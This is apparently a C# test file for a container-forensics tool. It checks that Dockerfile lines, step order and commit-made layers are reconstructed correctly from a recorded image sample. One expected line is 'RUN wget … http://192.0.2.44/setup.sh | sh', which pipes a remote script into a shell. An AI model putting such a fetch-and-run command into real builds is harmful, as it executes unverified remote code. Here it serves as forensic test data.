using StoreForensics.EndToEnd.Support;

namespace StoreForensics.EndToEnd.Samples;

/// <summary><c>history --dockerfile</c> against the Dockerfiles that the recipe built the recorded sample from.</summary>
internal sealed class DockerfileTests
{
    private static readonly string s_sample = Path.Combine(Checkout.Samples, "webapp-20.10", "webapp-20.10.tar.gz");

    [TestCase("HEALTHCHECK --interval=1s --timeout=5s CMD test -f /app/start.sh && echo well")]
    [TestCase("ENTRYPOINT [\"/bin/sh\", \"/app/start.sh\"]")]
    [TestCase("CMD [\"--port\", \"80\"]")]
    [TestCase("RUN wget -q -O - http://192.0.2.44/setup.sh | sh")]
    [TestCase("WORKDIR /app")]
    [TestCase("STOPSIGNAL SIGTERM")]
    public void Has_the_line(string line) => Assert.That(Lines("shop/web:1.4"), Does.Contain(line));

    [Test]
    public void Runs_from_the_oldest_step_to_the_newest()
    {
        int[] steps = [.. Lines("shop/web:1.4").Where(line => line.StartsWith("# step ", StringComparison.Ordinal)).Select(line =>
            int.Parse(line.Split(' ', ',')[2], System.Globalization.CultureInfo.InvariantCulture))];
        Assert.That(steps, Is.EqualTo(Enumerable.Range(1, 24)));
    }

    [Test]
    public void A_commit_is_no_line_of_a_dockerfile() =>
        Assert.That(Lines("shop/backup:nightly")[^1], Does.StartWith("# not from a Dockerfile: "));

    private static string[] Lines(string image) => BuiltProgram.Run("history", s_sample, image, "--dockerfile").MustExit(0).Text.TrimEnd('\n').Split('\n');
}
